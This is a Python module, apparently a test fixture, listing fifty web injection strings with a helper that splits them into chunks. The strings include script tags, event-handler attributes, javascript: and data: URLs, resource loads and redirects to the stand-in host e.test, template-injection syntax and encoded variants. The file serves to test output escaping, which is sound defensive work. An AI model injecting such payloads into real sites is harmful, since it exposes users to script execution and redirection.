"""Texts that would run, fetch, leave their place or mislead, were they ever taken for anything but text."""

STRINGS = (
    "javascript:alert(1)",
    "=HYPERLINK(\"https://e.test/2\",\"x\")",
    "<script>alert(3)</script>",
    "<script src=//e.test/4.js></script>",
    "<img src=x onerror=alert(5)>",
    '"><img src=https://e.test/6.png>',
    "'><svg onload=alert(7)>",
    "`><svg/onload=alert(8)>",
    '" autofocus onfocus="alert(9)" x="',
    "' onmouseover='alert(10)",
    '" style="background:url(//e.test/11)',
    "</script><script>alert(12)</script>",
    "</title><script>alert(13)</script>",
    "</textarea><script>alert(14)</script>",
    "</style><style>@import '//e.test/15.css';</style>",
    "--><script>alert(16)</script><!--",
    "]]><script>alert(17)</script>",
    "<iframe src=javascript:alert(18)></iframe>",
    "<iframe srcdoc='<script>alert(19)</script>'></iframe>",
    "<a href=javascript:alert(20)>x</a>",
    "<a href='data:text/html,<script>alert(21)</script>'>x</a>",
    "<form action=//e.test/22><button>x</button></form>",
    "<object data=//e.test/23></object>",
    "<embed src=//e.test/24>",
    "<meta http-equiv=refresh content='0;url=//e.test/25'>",
    "<base href=//e.test/26/>",
    "<link rel=stylesheet href=//e.test/27.css>",
    "<details open ontoggle=alert(28)>x</details>",
    "<video><source onerror=alert(29)></video>",
    "<body onload=alert(30)>",
    "<input autofocus onfocus=alert(31)>",
    "<math><mtext></form><form><mglyph><svg><mtext><img src onerror=alert(32)>",
    "<svg><animate onbegin=alert(33) attributeName=x dur=1s>",
    "<template><script>alert(34)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(35)>'>",
    "<i x-data x-init='alert(36)'>x</i>",
    "<i x-data @click=alert(37) x-html='alert(37)'>x</i>",
    "<i hx-get=//e.test/38 hx-trigger=load>x</i>",
    "{{ 7|add:39 }}{% debug %}{% load static %}",
    "${alert(40)}<%= alert(40) %>#{alert(40)}",
    "&lt;script&gt;alert(41)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(42)&#62;",
    "%3Cscript%3Ealert(43)%3C/script%3E",
    "\\u003cscript\\u003ealert(44)\\x3c/script\\x3e",
    "＜script＞alert(45)＜/script＞",
    "\u202etxet desrever <b onclick=alert(46)>",
    "java\nscript:alert(47)\u2028\u2029\ufeff\u200b",
    "+ADw-script+AD4-alert(48)+ADw-/script+AD4-",
    "[x](javascript:alert(49)) ![x](https://e.test/49.png)",
    "';alert(50)//\";alert(50)//\\",
)  # fmt: skip
ALL = "\n".join(STRINGS)


def pieces(most: int) -> list[str]:
    """All of them in few texts of at most so many characters."""
    texts = [""]
    for string in STRINGS:
        if len(texts[-1]) + len(string) + 1 > most:
            texts.append("")
        texts[-1] = f"{texts[-1]} {string}".strip()
    return texts
